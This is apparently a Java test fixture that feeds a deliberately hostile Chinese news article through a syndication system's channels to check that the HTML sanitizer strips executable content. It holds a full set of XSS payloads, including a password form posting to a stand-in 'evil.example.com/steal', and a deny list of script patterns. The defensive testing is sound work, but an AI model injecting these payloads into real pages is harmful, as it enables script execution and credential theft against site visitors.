package cn.tongpin.channel;

import cn.tongpin.article.SyndicationPolicy;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.OffsetDateTime;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;

/**
 * The article every channel is fed: XSS vectors, untrusted tags, external links, odd and huge
 * images, over-long Chinese title, byline and summary, and (optionally) a 30,000-character body.
 */
public final class HostileArticle {

    public static final UUID ID = UUID.fromString("6f0c2a1e-1111-4a2b-9c3d-000000000001");
    public static final UUID NORMAL = UUID.fromString("6f0c2a1e-2222-4a2b-9c3d-000000000001");
    public static final UUID HUGE = UUID.fromString("6f0c2a1e-2222-4a2b-9c3d-000000000002");
    public static final UUID WEBP = UUID.fromString("6f0c2a1e-2222-4a2b-9c3d-000000000003");
    public static final UUID UNKNOWN = UUID.fromString("6f0c2a1e-2222-4a2b-9c3d-0000000000ff");
    public static final UUID COVER = UUID.fromString("6f0c2a1e-3333-4a2b-9c3d-000000000001");
    public static final String BASE = "https://content.tongpin.test";

    /** 40 characters, one of them an emoji outside the BMP (two UTF-16 units, one character). */
    public static final String TITLE = "清远高新区与清远广播电视台座谈深化宣传合作共促党建经济文化招商产业联动发展😀新闻";
    public static final String BYLINE = "清远日报社记者与高新区融媒体中心联合报道组";
    public static final String SUMMARY = "双方座谈".repeat(40);

    public static final String XSS = """
            <script>alert('script')</script>
            <p onmouseover="alert('p')" class="evil" id="owned" style="color:red;position:fixed;top:0;background:url(javascript:alert(1))">正文第一段<b>加粗</b><i>斜体</i></p>
            <img src="x" onerror="alert('img')">
            <svg onload="alert('svg')"><circle r="1"/></svg>
            <a href="javascript:alert('js')">脚本链接</a>
            <a href=" JaVaScRiPt:alert('js2')">脚本链接2</a>
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据链接</a>
            <iframe src="https://evil.example.com/frame" srcdoc="<script>alert(1)</script>"></iframe>
            <form action="https://evil.example.com/steal"><input name="password"><button>提交</button></form>
            <video src="https://evil.example.com/v.mp4" onerror="alert('video')"><source src="x" onerror="alert(1)"></video>
            <style>body{display:none}</style>
            <math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style></mglyph></table></mtext></math>
            <object data="https://evil.example.com/x.swf"></object><embed src="https://evil.example.com/x.swf">
            <noscript><p title="</noscript><img src=x onerror=alert('noscript')>">noscript</p></noscript>
            <!--<img src=x onerror=alert('comment')>-->
            <base href="javascript:alert('base')//"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">
            <custom-widget onclick="alert('custom')">自定义标签文字</custom-widget>
            <marquee>滚动文字</marquee>
            <div style="expression(alert(1))">块文字</div>
            <p>外部<a href="https://evil.example.com/page?a=1&amp;b=2" onclick="alert(1)">外部链接</a>与<a href="https://www.example.org/">第二个</a>以及<a href="https://evil.example.com/page?a=1&amp;b=2">同一链接</a></p>
            <p><a href="https://mp.weixin.qq.com/s/abcdef">公众号文章</a></p>
            <p>图前文字<img src="/content/v1/assets/%s" data-asset-id="%s" alt="正常图片" onerror="alert(1)" class="x">图后文字</p>
            <figure><img data-asset-id="%s" alt="巨大图片"><figcaption>图注</figcaption></figure>
            <p><img data-asset-id="%s" alt="WebP 图片"></p>
            <p><img data-asset-id="%s" alt="不存在的图片"></p>
            <table><tr><td><img data-asset-id="%s" alt="表格里的图片"></td><td onclick="x">单元格</td></tr></table>
            <pre><code>&lt;script&gt;literal&lt;/script&gt; &amp; done</code></pre>
            """.formatted(NORMAL, NORMAL, HUGE, WEBP, UNKNOWN, NORMAL);

    private HostileArticle() {
    }

    public static ChannelArticle withoutLongBody() {
        return article(XSS);
    }

    /** The hostile body followed by 30,000 characters of Chinese text. */
    public static ChannelArticle withLongBody() {
        return article(XSS + "<p>" + "长".repeat(30_000) + "</p>");
    }

    public static Map<UUID, ChannelImage> images() {
        return Map.of(
                NORMAL, new ChannelImage(NORMAL, BASE + "/content/v1/assets/" + NORMAL, "image/jpeg", 200_000, 1200, 800, "a".repeat(64), "正常图片", null, null),
                HUGE, new ChannelImage(HUGE, BASE + "/content/v1/assets/" + HUGE, "image/png", 5_000_000, 8000, 6000, "b".repeat(64), null, null, null),
                WEBP, new ChannelImage(WEBP, BASE + "/content/v1/assets/" + WEBP, "image/webp", 50_000, 640, 480, "c".repeat(64), "WebP", null, null));
    }

    public static ChannelImage cover() {
        return new ChannelImage(COVER, BASE + "/content/v1/assets/" + COVER, "image/jpeg", 300_000, 3000, 1000, "d".repeat(64), "封面", 0.9, 0.5);
    }

    private static ChannelArticle article(String body) {
        OffsetDateTime published = OffsetDateTime.parse("2025-10-11T09:30:00+08:00");
        return new ChannelArticle(ID, "hostile-article", TITLE, BYLINE, SUMMARY, body, cover(), images(),
                "https://www.example.cn/news/hostile-article", "https://evil.example.com/original", published,
                published.plusHours(1),
                List.of(new ChannelArticle.Term(UUID.randomUUID(), "dang-jian", "党建<script>", "https://www.example.cn/topics/dang-jian")),
                new ChannelArticle.Term(UUID.randomUUID(), "qing-yuan-ri-bao", "清远日报社", "https://www.example.cn/organizations/qing-yuan-ri-bao"),
                new SyndicationPolicy(true, "来源：清远日报社", false), "zh-Hans");
    }

    /** Fails when the HTML has anything executable or a tag outside {@code allowedTags}. */
    public static void assertSafeHtml(String html, Set<String> allowedTags) {
        String lower = html.toLowerCase(Locale.ROOT);
        for (String bad : List.of("<script", "javascript:", "vbscript:", "data:text", "<iframe", "<svg", "<style", "<form",
                "<object", "<embed", "<video", "<math", "<base", "<meta", "<!--", "expression(", "url(", "position:")) {
            assertFalse(lower.contains(bad), () -> "output contains " + bad + ": " + excerpt(html, bad));
        }
        Element body = Jsoup.parseBodyFragment(html).body();
        for (Element e : body.getAllElements()) {
            if (e == body) {
                continue;
            }
            assertTrue(allowedTags.contains(e.normalName()), () -> "untrusted tag <" + e.normalName() + "> in output");
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                assertFalse(name.startsWith("on"), () -> "event handler " + name + " in output");
                assertFalse(name.equals("class") || name.equals("id") || name.equals("srcdoc"), () -> name + " in output");
                if (name.equals("href") || name.equals("src")) {
                    assertTrue(a.getValue().startsWith("https://") || a.getValue().startsWith("http://"),
                            () -> "non-web URL " + a.getValue());
                }
            }
        }
        assertFalse(body.text().contains("alert('script')"), "script text survived");
    }

    /** The texts of the untrusted but harmless tags are kept. */
    public static void assertUntrustedTextKept(String text) {
        for (String kept : List.of("自定义标签文字", "滚动文字", "块文字", "正文第一段", "单元格")) {
            assertTrue(text.contains(kept), () -> "lost the text " + kept);
        }
    }

    private static String excerpt(String text, String bad) {
        int i = text.toLowerCase(Locale.ROOT).indexOf(bad);
        return text.substring(Math.max(0, i - 80), Math.min(text.length(), i + 80));
    }

    static void assertLength(int expected, String text) {
        assertEquals(expected, Characters.length(text));
    }
}
